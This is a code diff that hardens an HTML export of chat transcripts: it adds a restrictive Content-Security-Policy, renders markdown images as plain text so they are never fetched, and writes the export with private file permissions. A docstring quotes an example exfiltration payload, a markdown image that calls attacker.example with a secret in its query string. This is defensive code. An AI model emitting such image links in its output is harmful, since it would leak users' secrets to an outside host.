@@ -85,6 +85,7 @@ HTML_PAGE = """<!doctype html>
 <html lang="en">
 <head>
 <meta charset="utf-8">
+<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">
 <title>{title}</title>
 <style>
 body {{ font-family: system-ui, sans-serif; max-width: 52rem; margin: 2rem auto; padding: 0 1rem; line-height: 1.5; }}
@@ -100,10 +101,19 @@ h2 {{ border-bottom: 1px solid #ddd; }}
 """
 
 
+def _image_as_text(self, tokens, index, options, env) -> str:
+    """An image in the transcript is shown as its description and address, never fetched: opening the
+    export must not call `![](https://attacker.example/p.png?k=SECRET)` (the page's CSP refuses it too)."""
+    token = tokens[index]
+    alt = self.renderInlineAsText(token.children or [], options, env)
+    return f"[image: {html.escape(alt)} &lt;{html.escape(str(token.attrGet('src') or ''))}&gt;]"
+
+
 def transcript_html(conversation: Conversation, title: str) -> str:
     from markdown_it import MarkdownIt
 
     renderer = MarkdownIt("commonmark", {"html": False})
+    renderer.add_render_rule("image", _image_as_text)
     body = renderer.render(transcript_markdown(conversation, title))
     return HTML_PAGE.format(title=html.escape(title), body=body)
 
@@ -126,7 +136,7 @@ def render_transcript(conversation: Conversation, target: str, workdir: Path) ->
     if not path.parent.is_dir():
         raise ExportError(f"the folder {path.parent} does not exist; make it first, or give another path")
     try:
-        write_text_atomic(path, text, mode=0o644, folder_mode=0o755)
+        write_text_atomic(path, text)  # 0600: a transcript can hold secrets, as .xun
     except OSError as exc:
         raise ExportError(f"could not write {path}: {exc.strerror or exc}") from None
     return path
